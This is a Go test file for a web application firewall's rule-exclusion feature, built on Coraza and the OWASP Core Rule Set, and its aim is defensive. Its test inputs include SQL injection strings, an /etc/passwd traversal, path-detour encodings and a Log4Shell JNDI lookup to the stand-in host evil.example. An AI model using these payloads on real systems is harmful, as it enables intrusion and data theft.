package waf

import (
	"fmt"
	"io/fs"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza/v3"
	"github.com/corazawaf/coraza/v3/experimental"
	"github.com/corazawaf/coraza/v3/types"
)

func exclusion(t testing.TB, line string) Exclusion {
	t.Helper()
	x, err := parseExclusion(strings.Fields(line))
	if err != nil {
		t.Fatalf("exclude %s: %v", line, err)
	}
	return x
}

// Each exclusion lets one request pass that is refused without it, and not its neighbour.
func TestExclusions(t *testing.T) {
	const quote = "' or 1=1-- -" // 942100 alone reaches the threshold, and no other rule
	type try struct {
		method, target, contentType, body string
		header                            [2]string
		pass                              bool
	}
	plainForm := func(field string) string { return field + "=" + url.QueryEscape(quote) }
	json := func(path, text string) string { // a.b.0.c
		parts := strings.Split(path, ".")
		out := strconv.Quote(text)
		for _, p := range slices.Backward(parts) {
			if p == "0" {
				out = "[" + out + "]"
			} else {
				out = `{"` + p + `":` + out + `}`
			}
		}
		return out
	}
	room := "/api/rooms/general/messages"
	for _, c := range []struct {
		exclude string
		tries   []try
	}{
		{"942100", []try{
			{"POST", room, js, json("text", quote), [2]string{}, true},
			{"GET", "/x?" + plainForm("q"), "", "", [2]string{}, true},
			{"POST", room, js, json("text", xss), [2]string{}, false},
		}},
		// As gw_secure has it for the console, where staff search for attacks and write them down.
		{"tag:OWASP_CRS on ARGS,QUERY_STRING,REQUEST_URI,REQUEST_URI_RAW,REQUEST_BODY,REQUEST_LINE at /console/* /console/*/* /console/*/*/*", []try{
			{"GET", "/console/events?path=" + url.QueryEscape(xss), "", "", [2]string{}, true},
			{"GET", "/console/events/export?_format=csv&path=" + url.QueryEscape("../../../etc/passwd"), "", "", [2]string{}, true},
			{"POST", "/console/incidents/act/note", "application/x-www-form-urlencoded", "id=1&f.text=" + url.QueryEscape(quote+" "+xss), [2]string{}, true},
			{"GET", "/events?path=" + url.QueryEscape(xss), "", "", [2]string{}, false},
			{"GET", "/console/events", "", "", [2]string{"User-Agent", xss}, false},
		}},
		{"942100 on ARGS:text at /api/rooms/*/messages", []try{
			{"POST", room, js, json("text", quote), [2]string{}, true},
			{"POST", room, form, plainForm("text"), [2]string{}, true},
			{"POST", room, "multipart/form-data; boundary=b0", multipartBody("text", quote), [2]string{}, true},
			{"GET", room + "?" + plainForm("text"), "", "", [2]string{}, true},
			{"POST", room, js, json("TEXT", quote), [2]string{}, true}, // Coraza compares names without case
			{"POST", room, js, json("title", quote), [2]string{}, false},
			{"POST", room, js, json("texts", quote), [2]string{}, false},
			{"POST", room, js, json("a.text", quote), [2]string{}, false},
			{"POST", room, js, json("text", xss), [2]string{}, false},
			{"POST", room + "/1", js, json("text", quote), [2]string{}, false},
			{"POST", "/api/rooms/messages", js, json("text", quote), [2]string{}, false},
			{"POST", "/api/rooms/a/b/messages", js, json("text", quote), [2]string{}, false},
			{"POST", "/api/rooms//messages", js, json("text", quote), [2]string{}, false},
			{"POST", "/api/rooms/a%2Fb/messages", js, json("text", quote), [2]string{}, false},
			{"POST", "/api/rooms/caf%C3%A9/messages", js, json("text", quote), [2]string{}, true},
			{"POST", "/API/rooms/general/messages", js, json("text", quote), [2]string{}, false},
			{"POST", room + "%0A", js, json("text", quote), [2]string{}, false},
			{"POST", "/x%0A" + room, js, json("text", quote), [2]string{}, false},
		}},
		{"942100 on ARGS:items.*.text", []try{
			{"POST", "/x", js, json("items.0.text", quote), [2]string{}, true},
			{"POST", "/x", js, json("items.0.a.text", quote), [2]string{}, false},
			{"POST", "/x", js, json("items.0.title", quote), [2]string{}, false},
		}},
		{"942000-942010 942019-942999 on ARGS at /free/*", []try{
			{"POST", "/free/a/b", js, json("any", quote), [2]string{}, true},
			{"POST", "/free", js, json("any", quote), [2]string{}, false},
			{"POST", "/free/a", js, json("any", xss), [2]string{}, false},
		}},
		{"tag:attack-sqli at /a /b", []try{
			{"POST", "/a", js, json("x", quote), [2]string{}, true},
			{"POST", "/b", js, json("x", quote), [2]string{}, true},
			{"POST", "/c", js, json("x", quote), [2]string{}, false},
			{"POST", "/a", js, json("x", xss), [2]string{}, false},
		}},
		{"tag:attack-sqli", []try{
			{"POST", "/a", js, json("x", quote), [2]string{}, true},
			{"POST", "/a", js, json("x", xss), [2]string{}, false},
		}},
		{"tag:OWASP_CRS on ARGS:q,REQUEST_COOKIES:last at /search", []try{
			{"GET", "/search?q=" + url.QueryEscape(sqli+xss), "", "", [2]string{}, true},
			{"GET", "/search", "", "", [2]string{"Cookie", "last=" + quote}, true},
			{"GET", "/search", "", "", [2]string{"Cookie", "first=" + quote}, false},
			{"GET", "/search?p=" + url.QueryEscape(sqli), "", "", [2]string{}, false},
			{"GET", "/find?q=" + url.QueryEscape(sqli), "", "", [2]string{}, false},
		}},
		{"tag:OWASP_CRS on REQUEST_HEADERS:X-Query", []try{
			{"GET", "/", "", "", [2]string{"X-Query", "${jndi:ldap://evil.example/a}"}, true},
			{"GET", "/", "", "", [2]string{"X-Other", "${jndi:ldap://evil.example/a}"}, false},
		}},
	} {
		t.Run(c.exclude, func(t *testing.T) {
			strict, h := provision(t, &Handler{}), provision(t, &Handler{Exclusions: []Exclusion{exclusion(t, c.exclude)}})
			for _, y := range c.tries {
				send := func(h *Handler) outcome {
					r := request(y.method, y.target, y.contentType, y.body)
					if y.header[0] != "" {
						r.Header.Set(y.header[0], y.header[1])
					}
					return do(t, h, r)
				}
				if o := send(strict); o.reached {
					t.Errorf("%s %s %s passes without the exclusion", y.method, y.target, y.body)
				}
				if o := send(h); o.reached != y.pass {
					t.Errorf("%s %s %s: passed %t, %+v", y.method, y.target, y.body, o.reached, o.verdict)
				}
			}
		})
	}
}

// A detour that a back end may undo does not reach an exclusion's place.
func TestExclusionsAreNotReachedByDetours(t *testing.T) {
	h := provision(t, &Handler{Mode: Detect, Exclusions: []Exclusion{exclusion(t, "942100 at /free/* /api/*/raw")}})
	for _, path := range []string{"/free/../api/x", "/free/..%2Fapi", "/free/a/../../x", "/free/%2e%2e/x", "/free/..;/x", "/free/.", "/free/a%5C..%5C..%5Cx", "/free/%252e%252e/x", "/api/../raw", "/api/./raw", "/api/..;a/raw", "/free/a%00"} {
		o := do(t, h, request("GET", path+"?q=%27%20OR%20%271%27=%271", "", ""))
		if !slices.Contains(o.verdict.Rules, 942100) {
			t.Errorf("%s: %v", path, o.verdict.Rules)
		}
	}
	for _, path := range []string{"/free/", "/free/a", "/free/a//b", "/free/.well-known/x", "/api/v1/raw"} {
		if o := do(t, h, request("GET", path+"?q=%27%20OR%20%271%27=%271", "", "")); slices.Contains(o.verdict.Rules, 942100) {
			t.Errorf("%s: %v", path, o.verdict.Rules)
		}
	}
}

func TestRefusedExclusions(t *testing.T) {
	for line, want := range map[string]string{
		"": "no rule", "on ARGS": "no rule", "at /x": "no rule", "942100 on": "no variable", "942100 at": "no path",
		"942100 on ARGS on ARGS": "once", "942100 at /x on ARGS": "once", "942100 at /x at /y": "once",
		"0": "no rule id", "-1": "no rule id", "942100x": "no rule id", "942200-942100": "no rule id", "942100,942200": "no rule id", "1-2-3": "no rule id",
		"901120": "sets up", "949110": "counts the score", "959100": "counts the score", "980170": "counts the score", "942013": "paranoia level",
		"920000-949999": "paranoia level", "942000-942999": "942011", "200004": "arguments", "200001": "parsed", "590100": "gateway's own",
		"tag:OWASP_CRS": "score", "tag:anomaly-evaluation at /x": "score", "tag:": "a tag has", "tag:a,b": "a tag has", "tag:a'b on ARGS": "a tag has",
		"942100 on ARGS_GET:a": "write ARGS", "942100 on TX:a": "variables are", "942100 on args": "variables are", "942100 on REQUEST_BODY:a": "no names",
		"942100 on ARGS:": "a name has", "942100 on ARGS:a;b": "a name has", "942100 on ARGS:a'b": "a name has", "942100 on ARGS:/a/": "a name has",
		"942100 on ARGS:*": "every name", "942100 on ARGS:a,": "variables are", `942100 on ARGS:a"`: "a name has", "942100 on ARGS:a|b": "a name has",
		"942100 at x": "begins with /", "942100 at /a**": "a single *", "942100 at /a*/b": "whole segment", "942100 at /*a": "whole segment", "942100 at /../a": "a dot",
		"942100 at /.": "a dot", "942100 at /..*": "a dot", `942100 at /a"b`: "letters", "942100 at /a'b": "letters", "942100 at /a\\": "letters", "942100 at /a,b": "letters",
		"942100 at /%61": "letters", "942100 at /*/*/*/*/*/*/*/*/*": "at most 8", "942100 at /" + strings.Repeat("a", 256): "at most 256",
		strings.Repeat("942100 ", 65): "at most 64",
	} {
		if _, err := parseExclusion(strings.Fields(line)); err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("exclude %s: %v, want %q", line, err, want)
		}
	}
}

var (
	crsRule = regexp.MustCompile(`[",]\s*id:(\d+),`)
	crsTag  = regexp.MustCompile(`tag:'([^']*)'`)
)

// The Core Rule Set's files: every rule that decides how the others are run or counted can't be excluded, by id or by tag.
func TestFlowOfTheCoreRuleSetIsHeld(t *testing.T) {
	files, err := fs.Glob(coreruleset.FS, "@owasp_crs/*.conf")
	if err != nil || len(files) == 0 {
		t.Fatal(err)
	}
	flow, tags := 0, map[string]bool{}
	for _, name := range files {
		b, err := fs.ReadFile(coreruleset.FS, name)
		if err != nil {
			t.Fatal(err)
		}
		text := regexp.MustCompile(`(?m)^#.*\n`).ReplaceAllString(string(b), "")
		for line := range strings.SplitSeq(strings.ReplaceAll(text, "\\\n", ""), "\n") {
			m := crsRule.FindStringSubmatch(line)
			if m == nil {
				continue
			}
			decides := strings.Contains(line, "paranoia_level") || strings.Contains(line, "PARANOIA_LEVEL") || strings.Contains(line, "anomaly_score_threshold}") || strings.Contains(line, "anomaly_score_threshold=") || strings.Contains(line, "anomaly_score=")
			if !decides {
				continue
			}
			flow++
			if err := validateSelector(m[1], false); err == nil {
				t.Errorf("%s: rule %s can be excluded", name, m[1])
			}
			for _, tag := range crsTag.FindAllStringSubmatch(line, -1) {
				tags[tag[1]] = true
				if err := validateSelector("tag:"+tag[1], false); err == nil {
					t.Errorf("%s: rule %s can be excluded by %s", name, m[1], tag[1])
				}
			}
		}
	}
	if flow < 200 || !tags["OWASP_CRS"] {
		t.Errorf("%d rules, %v", flow, tags)
	}
}

var (
	ctlRule   = regexp.MustCompile(`^SecRule REQUEST_FILENAME "@rx \\A\(\?:[^"]+\)\\z" "id:590100,phase:1,t:none,pass,nolog((?:,ctl:[^,"]+)+)"$|^SecAction "id:590100,phase:1,t:none,pass,nolog((?:,ctl:[^,"]+)+)"$`)
	ctlOfRule = regexp.MustCompile(`^ruleRemove(Target)?By(Id|Tag)=([A-Za-z0-9_./-]+)(?:;([A-Z_]+)(:[^;]+)?)?$`)
	loadLine  = regexp.MustCompile(`^SecRuleRemoveBy(?:Id [0-9-]+|Tag [A-Za-z0-9_./-]+)$`)
)

// asked holds the text of an exclusion to what was asked: these selectors, these variables, nothing else.
func asked(x Exclusion) error {
	text := x.inPhase1(590100)
	if text == "" {
		lines := strings.Split(strings.TrimSpace(x.atLoad()), "\n")
		if len(lines) != len(x.Rules) {
			return fmt.Errorf("%d lines for %d rules", len(lines), len(x.Rules))
		}
		for _, l := range lines {
			if !loadLine.MatchString(l) {
				return fmt.Errorf("line %q", l)
			}
		}
		return nil
	}
	if x.atLoad() != "" {
		return fmt.Errorf("in phase 1 and at load")
	}
	for l := range strings.SplitSeq(text, "\n") {
		if len(l) > 32<<10 {
			return fmt.Errorf("a line of %d bytes", len(l))
		}
	}
	m := ctlRule.FindStringSubmatch(strings.TrimSuffix(strings.ReplaceAll(text, "\\\n", ""), "\n"))
	if m == nil {
		return fmt.Errorf("text %q", text)
	}
	targetsAsked := 0
	for _, v := range x.On {
		name, _, _ := strings.Cut(v, ":")
		targetsAsked += len(variables[name].rules)
	}
	all := strings.Split(strings.TrimPrefix(m[1]+m[2], ",ctl:"), ",ctl:")
	if len(all) != len(x.Rules)*max(1, targetsAsked) {
		return fmt.Errorf("%d actions for %d rules on %d variables: %q", len(all), len(x.Rules), targetsAsked, all)
	}
	for _, a := range all {
		p := ctlOfRule.FindStringSubmatch(a)
		if p == nil {
			return fmt.Errorf("action %q", a)
		}
		selector := p[3]
		if p[2] == "Tag" {
			selector = "tag:" + selector
		}
		if !slices.Contains(x.Rules, selector) || (p[1] == "") != (len(x.On) == 0) || (p[4] == "") != (len(x.On) == 0) {
			return fmt.Errorf("action %q was not asked for", a)
		}
		if p[5] == "" && len(x.On) > 0 && !slices.ContainsFunc(x.On, func(v string) bool { return slices.Contains(variables[v].rules, p[4]) }) {
			return fmt.Errorf("action %q takes all names", a)
		}
	}
	return nil
}

func FuzzExclusion(f *testing.F) {
	for _, s := range []string{
		"942100", "942100 942110-942120 tag:attack-sqli", "942100 on ARGS:text at /api/rooms/*/messages", "tag:OWASP_CRS on ARGS:a.*.b,ARGS_NAMES:[0] at /x* /y/*",
		"942100 on REQUEST_HEADERS:X-A*,REQUEST_COOKIES at /é", "1 on ARGS:a;b", "1 at /a\" \"id:1", "1 on ARGS:a\\", "942100 on ARGS:$where@[-] at /.a/..b",
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		x, err := parseExclusion(strings.Fields(line))
		if err != nil {
			return
		}
		if err := asked(x); err != nil {
			t.Fatalf("exclude %s: %v", line, err)
		}
		// It compiles, and adds no rule but its own.
		rules := 0
		text := x.inPhase1(590100) + "SecAction \"id:1,phase:1,pass,nolog\"\n" + x.atLoad() + "SecAction \"id:2,phase:1,pass,nolog\"\n"
		if _, err := coraza.NewWAF(experimental.WAFConfigWithRuleObserver(coraza.NewWAFConfig().WithDirectives(text), func(types.RuleMetadata) { rules++ })); err != nil {
			t.Fatalf("exclude %s: %v\n%s", line, err, text)
		}
		if want := 2 + min(1, len(x.inPhase1(1))); rules != want {
			t.Fatalf("exclude %s: %d rules, want %d\n%s", line, rules, want, text)
		}
	})
}

// The largest exclusion that is accepted stays readable for Coraza, whose lines end at 64 KiB without a word.
func TestLargestExclusion(t *testing.T) {
	var x Exclusion
	for i := range maxSelectors {
		x.Rules = append(x.Rules, fmt.Sprintf("tag:%s%d", strings.Repeat("t", 100), i))
	}
	for i := range maxTargets {
		x.On = append(x.On, fmt.Sprintf("ARGS:%s%d", strings.Repeat("a.*.", 30), i))
	}
	for i := range maxPaths {
		x.At = append(x.At, PathPattern(fmt.Sprintf("/%s%d%s*", strings.Repeat(".é", 75), i, strings.Repeat("/*", 7)+"/")))
	}
	if err := x.validate(); err != nil {
		t.Fatal(err)
	}
	if err := asked(x); err != nil {
		t.Fatal(err)
	}
	h := provision(t, &Handler{Exclusions: []Exclusion{x}})
	if o := do(t, h, request("GET", "/x?q=%27%20OR%20%271%27=%271", "", "")); o.status != http.StatusForbidden {
		t.Errorf("status %d", o.status)
	}
}

func BenchmarkExclusionEverywhere(b *testing.B) {
	for _, line := range []string{"", "942100 on ARGS:text", "942100-942199 on ARGS:text", "tag:attack-sqli on ARGS:text", "942100 on ARGS:text at /nowhere"} {
		b.Run(line, func(b *testing.B) {
			h := &Handler{}
			if line != "" {
				h.Exclusions = []Exclusion{exclusion(b, line)}
			}
			h = provision(b, h)
			for b.Loop() {
				do(b, h, request("GET", "/api/rooms", "", ""))
			}
		})
	}
}
